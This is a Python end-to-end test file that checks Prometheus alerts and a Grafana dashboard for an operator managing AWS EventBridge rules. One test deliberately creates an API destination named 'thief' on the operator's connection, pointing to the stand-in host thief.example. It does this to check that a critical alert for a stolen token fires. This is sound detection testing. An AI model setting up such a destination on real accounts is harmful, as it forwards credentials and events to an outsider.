"""What an SRE sees: a real Prometheus, with the monitor and the rules that ship, beside the running operator."""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from sandbox.deployment import ROOT, Replica
from sandbox.monitoring import Prometheus
from tests.e2e.conftest import Operators
from tests.e2e.neighbours import set_up_beside
from tests.e2e.tenant import Tenant
from tests.e2e.test_main_job import ask

# Fifteen minutes of the shipped rules pass in fifteen seconds.
PACE = 60.0
# More than a status has room for.
MANY = 25
DASHBOARD = json.loads((ROOT / "deploy/monitoring/grafana-dashboard.json").read_text())


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Prometheus]:
    server = Prometheus(tmp_path_factory.mktemp("prometheus"), PACE)
    server.start({})
    yield server
    server.stop()


@pytest.fixture
def prometheus(server: Prometheus, operator: Replica, tenant: Tenant) -> Prometheus:
    server.follow({"zerotouch-operator": operator.url})
    tenant.wait(lambda: server.query('up{job="zerotouch"}') != [] and server.query("up")[0][1] == 1)
    return server


def fires(prometheus: Prometheus, tenant: Tenant, alert: str, **labels: str) -> None:
    def firing() -> bool:
        return any(labels.items() <= found.items() for found in prometheus.alerts(alert))

    tenant.wait(firing)


def resolves(prometheus: Prometheus, tenant: Tenant, alert: str) -> None:
    tenant.wait(lambda: prometheus.alerts(alert) == [])


def panels() -> list[dict[str, Any]]:
    return [panel for panel in DASHBOARD["panels"] if panel["type"] != "row"]


@pytest.mark.timeout(900)
def test_an_alert_tells_of_drift_and_resolves(prometheus: Prometheus, tenant: Tenant) -> None:
    account = tenant.account()
    tenant.credentials()
    tags = {f"tag-{number}": "ours" for number in range(MANY)}
    tenant.apply(account, interval="1h", tags=tags)
    tenant.ready()
    tenant.patch({"mode": "Observe"})
    tenant.wait(lambda: tenant.child(account)["spec"]["mode"] == "Observe")
    events = tenant.aws.client("events", account, "eu-west-1")
    events.disable_rule(Name="qualys-zerotouch")
    events.untag_resource(ResourceARN=events.describe_rule(Name="qualys-zerotouch")["Arn"], TagKeys=list(tags))
    ask(tenant, account, "drifted")
    fires(prometheus, tenant, "ZeroTouchDrift", account=account, region="eu-west-1", kind="Rule")
    assert len(tenant.child(account)["status"]["details"]) == 20
    assert [value for _, value in prometheus.query(f'zerotouch_drift{{account="{account}"}}')] == [MANY + 1]
    tenant.patch({"mode": "Enforce"})
    resolves(prometheus, tenant, "ZeroTouchDrift")
    mended = prometheus.query('zerotouch_drift_mended_total{kind="Rule",cause="removed"}')
    assert mended[0][1] >= 1
    assert prometheus.query("zerotouch:targets_ready:ratio") != []
    repaired = prometheus.query('zerotouch_drift_repair_seconds_count{source="poll"}')
    assert repaired[0][1] >= 1


@pytest.mark.timeout(900)
def test_a_stolen_token_pages_at_once(prometheus: Prometheus, tenant: Tenant) -> None:
    account = tenant.account()
    tenant.credentials()
    tenant.apply(account, interval="1h")
    tenant.ready()
    events = tenant.aws.client("events", account)
    connection = events.describe_connection(Name="qualys-zerotouch")["ConnectionArn"]
    events.create_api_destination(
        Name="thief", ConnectionArn=connection, InvocationEndpoint="https://thief.example/", HttpMethod="POST"
    )
    ask(tenant, account, "stolen")
    fires(prometheus, tenant, "ZeroTouchForeignAPIDestination", severity="critical")
    events.delete_api_destination(Name="thief")
    ask(tenant, account, "deleted")
    resolves(prometheus, tenant, "ZeroTouchForeignAPIDestination")


@pytest.mark.timeout(900)
def test_a_queue_that_cannot_be_read_is_told_through_a_restart(
    prometheus: Prometheus, operators: Operators, tenant: Tenant
) -> None:
    tenant.credentials()
    tenant.apply(tenant.account(), interval="1h", detection={"events": {}})
    tenant.ready()
    tenant.wait(lambda: [value for _, value in prometheus.query("zerotouch_drift_queue_reachable")] == [1])
    assert prometheus.alerts("ZeroTouchDriftQueueUnreachable") == []
    tenant.aws.add_fault("deny", service="sqs", operation="ReceiveMessage", count=10_000)
    fires(prometheus, tenant, "ZeroTouchDriftQueueUnreachable", severity="warning")
    operators.end()
    prometheus.follow({"zerotouch-again": operators.running().url})
    tenant.wait(lambda: [value for _, value in prometheus.query("zerotouch_drift_queue_reachable")] == [0])
    fires(prometheus, tenant, "ZeroTouchDriftQueueUnreachable")
    tenant.aws.clear_faults()
    resolves(prometheus, tenant, "ZeroTouchDriftQueueUnreachable")
    tenant.patch({"detection": None})
    tenant.wait(lambda: prometheus.query("zerotouch_drift_queue_reachable") == [])


@pytest.mark.timeout(900)
def test_every_panel_of_the_dashboard_shows_something(prometheus: Prometheus, tenant: Tenant) -> None:
    account = tenant.account()
    tenant.credentials()
    tenant.apply(account, interval="1h", detection={"events": {}})
    tenant.ready()
    set_up_beside(tenant, account)
    tenant.aws.client("events", account).disable_rule(Name="qualys-zerotouch")
    ask(tenant, account, "look")
    expressions = [
        re.sub(r"\$__rate_interval", "1m", target["expr"]) for panel in panels() for target in panel["targets"]
    ]
    tenant.wait(lambda: all(prometheus.query(expression) for expression in expressions))
    assert [e for e in expressions if prometheus.query(e) == []] == []
    (panel,) = [panel for panel in panels() if panel["title"] == "Regions in which others do the same"]
    others = [target["expr"] for target in panel["targets"]]
    tenant.wait(lambda: [[value for _, value in prometheus.query(other)] for other in others] == [[1], [1]])


def test_the_dashboard_is_whole() -> None:
    ids = [panel["id"] for panel in DASHBOARD["panels"]]
    assert len(ids) == len(set(ids))
    cells = [
        (x, y)
        for panel in DASHBOARD["panels"]
        for place in [panel["gridPos"]]
        for x in range(place["x"], place["x"] + place["w"])
        for y in range(place["y"], place["y"] + place["h"])
    ]
    assert len(cells) == len(set(cells))
    assert max(x for x, _ in cells) < 24
    used = set(re.findall(r"\bzerotouch_\w+", json.dumps(panels())))
    documented = set(re.findall(r"`(zerotouch_\w+)`", (ROOT / "docs/metrics.md").read_text()))
    assert {name.removesuffix("_bucket") for name in used} <= documented
